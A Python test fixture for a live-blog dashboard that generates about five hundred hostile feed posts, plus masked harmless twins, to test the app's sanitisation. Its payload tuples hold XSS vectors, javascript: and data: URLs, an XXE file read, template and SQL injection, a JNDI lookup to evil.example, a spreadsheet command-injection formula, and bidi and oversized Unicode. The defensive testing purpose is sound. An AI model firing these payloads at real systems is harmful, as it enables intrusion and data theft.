"""Five hundred posts nobody means well by, and their harmless twins."""

import json
import random
from collections.abc import Iterator
from dataclasses import replace
from datetime import date

from dashboard.clean import NAME_LIMIT
from dashboard.feed import read_posts
from dashboard.model import FeedSource, Post, PostKind
from dashboard.views.screen_posts import LONG_POST
from tests.builders import make_file

NUMBER = 510  # some say nothing that can be shown
_LARGE = 100_000  # bytes and more
MARKUP = (
    "<b>gras</b>", "<h1>Élu</h1>", "</p></div></li></ol></main>", "<li class=post>x</li>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//evil.example>",
    "<math><mi xlink:href=javascript:alert(1)>x", "<table><tr><td>", "<form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<template><b>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
    "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--", "-->",
    "<![CDATA[<b>]]>", "]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///'>]>",
    "&lt;b&gt;", "&#60;b&#62;", "&amp;amp;", "&nbsp;", "<\u0000b>", "<b\u200b>", "＜b＞",
    "<a id=live>",
    "<main id=live data-version=9>", "<ol data-role=feed>", "<x-y>", "<b><i><u>" * 30,
)  # fmt: skip
SCRIPTS = (
    "<script>window.harm=1</script>", "</script><script>window.harm=1</script>", "<script src=//x>",
    "<script type=application/ld+json>{}</script>", "<!--<script>", "</script", "</title><script>",
    "'-alert(1)-'", '";window.harm=1;//', "`;window.harm=1;`", "\\u003cscript\\u003e", "\\\\\\",
    "javascript:window.harm=1", "data:text/html,<script>1</script>", "\u2028window.harm=1\u2029",
    '"}],"liveBlogUpdate":[{"@type":"Hoax"}]', "onerror=alert(1)", '" onmouseover="harm=1', "' x='",
)  # fmt: skip
LINKS = (
    "<a href='https://evil.example/'>ici</a>", "[ici](https://evil.example/)", "https://evil.example/",
    "www.evil.example", "<https://evil.example>", "//evil.example", "mailto:x@evil.example",
    "[url=https://evil.example]x[/url]", "tel:+33600000000", "#post-1", "@evil.example", "/ecran",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include '/etc/passwd' %}", "%s %d %n", "%(x)s",
    "{}", "{0}", "{time}", "{n}", "{source}", "{0.__class__.__mro__}", "{", "}", "%{x}", "$$",
    "\\1",
    "${jndi:ldap://evil.example/a}", "<extra></extra>", "%{customdata}", "<br>", "$&", "$`",
    "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "'; DROP TABLE posts; --",
)  # fmt: skip
NAMES = (
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "null",
    "undefined", "NaN", "true", "0", "-1", "length", "then", "key", "order", "innerHTML", "style",
)  # fmt: skip
DIRECTIONS = (
    "\u202eéveler\u202c", "\u2066x\u2069", "\u200f\u061c", "النتيجة", "תוצאות", "abc אבג 123 ابج",
    "\u202e" * 50 + "x", "12 % \u202e% 21", "\ufeffx", "\u2067" * 200 + "y",
)  # fmt: skip
PILES = (
    "Z\u0351\u0352\u0363" * 30, "a" + "\u0300" * 900, "\u0489" * 200 + "x", "\u0e49" * 300 + "x",
    "o\u20dd\u20e0" * 50, "👩\u200d" * 300 + "👧", "🏴" * 200, "﷽" * 2_000, "漢" * 2_000, "𒐫" * 300,
    "W" * 2_000, "क" + "ा" * 900, "a\u0300\u0300\u0300\u200d" * 90, "\u2588" * 2_000,
    "\u3164" * 80 + "x", "ﷺ" * 400, "\u0332x" * 500,
)  # fmt: skip
LARGE = (
    "A" * _LARGE, "mot " * (_LARGE // 4), "<b>" * (_LARGE // 3), "x\n\n" * (_LARGE // 3),
    "\u202e" * (_LARGE // 3) + "x", "e" + "\u0301" * (_LARGE // 2), "&" * _LARGE,
    "\n" * _LARGE + "x",
    "👩\u200d" * (_LARGE // 7), "﷽\n\n" * (_LARGE // 5), "{{" * (_LARGE // 2), "﷽" * (_LARGE // 3),
)  # fmt: skip
FAMILIES = (MARKUP, SCRIPTS, LINKS, TEMPLATES, NAMES, DIRECTIONS, PILES, LARGE)
ADDRESSES = (
    "javascript:window.harm=1", "JaVaScRiPt:x", "data:text/html,x", "vbscript:x", "//evil.example",
    'https://evil.example/" onclick="x', "https://a@evil.example", "file:///etc/passwd", "https://",
    "https://evil.example/<b>", "\x01javascript:x", "blob:x", "/ecran", "java\nscript:x",
)  # fmt: skip
_COLUMNS = (
    "id", "time", "text", "kind", "author", "role", "place", "camp", "source", "source_url",
    "image", "image_text", "pinned", "edited",
)  # fmt: skip


def posts() -> tuple[Post, ...]:
    """As the feed's reader makes them of JSON Lines whose every field is a payload."""
    lines: list[str] = []
    chance = random.Random(20_170_129)
    short = [each for family in FAMILIES[:-1] for each in family if len(each) < 400]
    for number, text in enumerate(_texts(chance)):
        identity = NAMES[number] if number < len(NAMES) else f"{number} {chance.choice(short)}"
        names = [chance.choice(short) if chance.random() < 0.7 else "" for _ in range(5)]
        kind = ("reaction", "key", "note", "correction")[number % 4]
        at = f"{18 + number // 100:02}:{number // 100 * 7 + number % 25:02}"
        pinned = "oui" if number % 97 == 0 else ""
        fields = (
            identity, at, text, kind, *names, chance.choice(ADDRESSES), chance.choice(ADDRESSES),
            chance.choice(short), pinned, "23:50" if number % 5 else "",
        )  # fmt: skip
        lines.append(json.dumps(dict(zip(_COLUMNS, fields, strict=True))))
    file = make_file("\n".join(lines).encode())
    source = FeedSource("feed", image_hosts=("images.example",))
    return read_posts(file, source, "Europe/Paris", date(2017, 1, 29))[0]


def twin(post: Post) -> Post:
    """Says as much at as many places, and means no harm."""
    return replace(
        post,
        text=_masked(post.text),
        author=_masked(post.author),
        role=_masked(post.role),
        place=_masked(post.place),
        camp=_masked(post.camp),
        source=_masked(post.source),
    )


def representatives(found: tuple[Post, ...], number: int) -> list[Post]:
    """So many reactions that are short enough for the wall, said by somebody of that name."""
    short = [post for post in found if len(post.text) <= LONG_POST]
    return [
        replace(
            post, kind=PostKind.REACTION, author=post.text[:NAME_LIMIT], role=post.text[:NAME_LIMIT]
        )
        for post in short[:: len(short) // number]
    ]


def _texts(chance: random.Random) -> Iterator[str]:
    """Every payload by itself, then several in one."""
    alone = [each for family in FAMILIES for each in family]
    yield from alone
    short = [each for each in alone if len(each) < 2_000]
    for _ in range(NUMBER - len(alone)):
        parts = chance.choices(short, k=chance.randrange(2, 5))
        yield chance.choice(("", " ", "\n\n", "\n")).join(parts)


def _masked(text: str) -> str:
    return "".join("\n" if character == "\n" else "x" for character in text)
